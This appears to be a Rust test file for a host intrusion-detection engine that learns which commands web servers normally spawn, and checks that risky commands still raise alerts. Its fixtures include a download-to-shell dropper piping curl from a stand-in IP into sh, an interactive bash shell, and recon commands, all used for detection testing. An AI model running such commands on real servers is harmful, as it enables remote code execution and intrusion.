//! The baseline through the engine: learning, judging, what it may never silence, and its
//! state file across a restart.

use crate::{
    alert::Alert,
    config::Config,
    detect::{Engine, HostInfo, RuleId, test_support::*},
};

const S: u64 = 1_000_000_000;

fn config(learning_secs: u64) -> Config {
    let mut c = Config::default();
    c.baseline.learning_secs = learning_secs;
    c.rate_limit.window_secs = 0;
    c
}

/// php-fpm (pid 10) started at 1 s, its worker 11.
fn php(engine: &mut Engine, out: &mut Vec<Alert>) {
    engine.process(
        exec(
            S,
            10,
            1,
            "/usr/sbin/php-fpm8.2",
            &["php-fpm: master process"],
        ),
        out,
    );
    engine.process(fork(S + 1, 11, 10), out);
}

fn convert(ts: u64, pid: u32, name: &str) -> crate::event::Event {
    let cmd = format!("convert /tmp/{name} -resize 64x64 /var/www/html/uploads/{name}.png");
    exec(ts, pid, 11, "/bin/sh", &["sh", "-c", &cmd])
}

#[test]
fn known_templates_are_counted_after_learning_and_new_ones_alert_as_new() {
    let mut engine = Engine::new(&config(100), HostInfo::default()).expect("engine");
    let mut alerts = Vec::new();
    php(&mut engine, &mut alerts);
    engine.process(convert(10 * S, 20, "phpA1b2C3"), &mut alerts);
    engine.process(convert(20 * S, 21, "phpQ9w8E7"), &mut alerts);
    assert_eq!(alerts.len(), 2, "learning: alerts as before");
    assert!(alerts.iter().all(|a| a.lineage.baseline.is_none()));
    alerts.clear();
    engine.process(convert(200 * S, 22, "phpZ5x4C3"), &mut alerts);
    assert!(alerts.is_empty(), "known: {alerts:#?}");
    let i = RuleId::ServerSpawnedShell.index();
    assert_eq!(engine.totals().alerts[i], 2);
    engine.process(
        exec(
            201 * S,
            23,
            11,
            "/bin/sh",
            &["sh", "-c", "cat /etc/hostname"],
        ),
        &mut alerts,
    );
    assert_eq!(alerts.len(), 1);
    let b = alerts[0].lineage.baseline.as_ref().expect("baseline.new");
    assert!(b.new);
    assert_eq!(b.template, "[/bin/sh] sh -c 'cat /etc/hostname'");
    let v = serde_json::to_value(&alerts[0]).expect("json");
    assert_eq!(v["lineage"]["baseline"]["new"], true);
}

#[test]
fn the_baseline_never_silences_what_always_alerts() {
    let mut engine = Engine::new(&config(100), HostInfo::default()).expect("engine");
    let mut alerts = Vec::new();
    php(&mut engine, &mut alerts);
    let risky: [(&str, &[&str]); 5] = [
        ("/usr/bin/curl", &["curl", "-s", "http://198.51.100.9/x"]),
        ("/tmp/sh", &["sh", "-c", "id"]),
        ("/run/user/33/sh", &["sh", "-c", "id"]),
        ("/bin/bash", &["bash", "-i"]),
        ("/usr/bin/id", &["id"]),
    ];
    let mut pid = 30;
    for (exe, argv) in risky {
        engine.process(exec(10 * S, pid, 11, exe, argv), &mut alerts);
        pid += 1;
    }
    let learned = alerts.len();
    // Each alerts while learning; a shell run from a temporary directory also alerts as
    // server-temp-file-executed.
    assert_eq!(learned, 7, "{alerts:#?}");
    alerts.clear();
    for (exe, argv) in risky {
        engine.process(exec(500 * S, pid, 11, exe, argv), &mut alerts);
        pid += 1;
    }
    assert_eq!(alerts.len(), learned, "{alerts:#?}");
    assert!(
        alerts.iter().all(|a| a.lineage.baseline.is_none()),
        "not judged at all"
    );
    assert_eq!(
        engine.totals().alerts.iter().sum::<u64>() as usize,
        2 * learned
    );
}

#[test]
fn a_finding_marked_always_alert_bypasses_the_baseline() {
    use crate::detect::{annotation::Table, rules::Finding};
    use crate::event::Event;
    let baseline = super::Baseline::new(&Config::default().baseline);
    let mut table = Table::new(crate::lineage::Limits::default());
    let Event::Exec(e) = exec(2, 20, 1, "/bin/sh", &["sh", "-c", "x"]) else {
        unreachable!("exec() makes an exec")
    };
    let id = table.exec(e);
    let p = table.get(id).expect("in the table");
    let mut f = Finding::new(RuleId::ServerSpawnedShell, id, 5);
    assert!(baseline.applies(&f, p));
    f.always_alert = true;
    assert!(!baseline.applies(&f, p));
    let recon = Finding::new(RuleId::ServerSpawnedRecon, id, 5);
    assert!(!baseline.applies(&recon, p));
}

#[test]
fn the_state_file_keeps_templates_and_the_window_across_a_restart() {
    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("baseline.toml");
    let config = config(100);
    let mut alerts = Vec::new();
    {
        let mut engine = Engine::new(&config, HostInfo::default()).expect("engine");
        php(&mut engine, &mut alerts);
        engine.process(convert(10 * S, 20, "phpA1b2C3"), &mut alerts);
        engine.baseline().save_state(&path).expect("save");
        // Killed here: nothing else is written.
    }
    let text = std::fs::read_to_string(&path).expect("read");
    assert!(text.contains("family = \"php\""), "{text}");
    assert!(text.contains("/tmp/<path>"), "{text}");
    alerts.clear();
    let mut engine = Engine::new(&config, HostInfo::default()).expect("engine");
    engine.baseline().load_state(&path).expect("load");
    php(&mut engine, &mut alerts);
    // The window still ends 101 s after the first start, not 100 s after this one.
    engine.process(convert(150 * S, 21, "phpQ9w8E7"), &mut alerts);
    assert!(alerts.is_empty(), "{alerts:#?}");
    engine.process(
        exec(151 * S, 22, 11, "/bin/sh", &["sh", "-c", "uname -a"]),
        &mut alerts,
    );
    assert_eq!(alerts.len(), 1);
    // A broken file is refused with its name.
    std::fs::write(&path, "version = 1\n[[server]]\nfamily = 3\n").expect("write");
    let err = engine
        .baseline()
        .load_state(&path)
        .expect_err("broken")
        .to_string();
    assert!(err.contains("baseline.toml"), "{err}");
}

#[test]
fn files_merge_sorted_with_the_earliest_window_and_close() {
    let dir = tempfile::tempdir().expect("tmp");
    let (a, b) = (dir.path().join("a.toml"), dir.path().join("b.toml"));
    let entry = |ends: &str, t: &str| {
        format!(
            "version = 1\n[[server]]\nfamily = \"php\"\nexecutable = \"/usr/sbin/php-fpm8.2\"\n\
             learning_ends = \"{ends}\"\ntemplates = [\"{t}\"]\n"
        )
    };
    std::fs::write(&a, entry("2026-12-12T00:00:00Z", "[/bin/sh] sh -c z")).expect("a");
    std::fs::write(&b, entry("2026-12-10T00:00:00Z", "[/bin/sh] sh -c a")).expect("b");
    let merged = super::merge_files(&[a.clone(), b.clone()], false).expect("merge");
    let (pa, pz) = (
        merged.find("sh -c a").expect("a"),
        merged.find("sh -c z").expect("z"),
    );
    assert!(pa < pz, "sorted: {merged}");
    assert!(merged.contains("2026-12-10T00:00:00Z"), "{merged}");
    assert!(!merged.contains("2026-12-12"), "{merged}");
    let closed = super::merge_files(&[a, b], true).expect("merge");
    assert!(!closed.contains("learning_ends ="), "{closed}");
    // Loading a merged file makes its templates known at once.
    let fleet = dir.path().join("fleet.toml");
    std::fs::write(&fleet, &closed).expect("fleet");
    let mut engine = Engine::new(&config(100), HostInfo::default()).expect("engine");
    engine.baseline().load_file(&fleet).expect("load");
    let mut alerts = Vec::new();
    php(&mut engine, &mut alerts);
    engine.process(
        exec(2 * S, 20, 11, "/bin/sh", &["sh", "-c", "z"]),
        &mut alerts,
    );
    assert!(alerts.is_empty(), "{alerts:#?}");
    engine.process(
        exec(3 * S, 21, 11, "/bin/sh", &["sh", "-c", "y"]),
        &mut alerts,
    );
    assert_eq!(alerts.len(), 1);
    assert!(alerts[0].lineage.baseline.is_some());
}

#[test]
fn a_payload_with_indicators_alerts_even_when_learned() {
    let mut engine = Engine::new(&config(100), HostInfo::default()).expect("engine");
    let mut alerts = Vec::new();
    php(&mut engine, &mut alerts);
    let dropper = ["sh", "-c", "curl -s http://198.51.100.9/x | sh"];
    engine.process(exec(10 * S, 40, 11, "/bin/sh", &dropper), &mut alerts);
    engine.process(exec(20 * S, 41, 11, "/bin/sh", &dropper), &mut alerts);
    assert_eq!(alerts.len(), 2, "learning: {alerts:#?}");
    alerts.clear();
    engine.process(exec(500 * S, 42, 11, "/bin/sh", &dropper), &mut alerts);
    let shell: Vec<_> = alerts
        .iter()
        .filter(|a| a.rule.id == "server-spawned-shell")
        .collect();
    assert_eq!(shell.len(), 1, "{alerts:#?}");
    assert!(shell[0].lineage.baseline.is_none(), "not judged at all");
    assert!(
        shell[0].lineage.indicators.contains(&"download-to-shell"),
        "{:?}",
        shell[0].lineage.indicators
    );
}
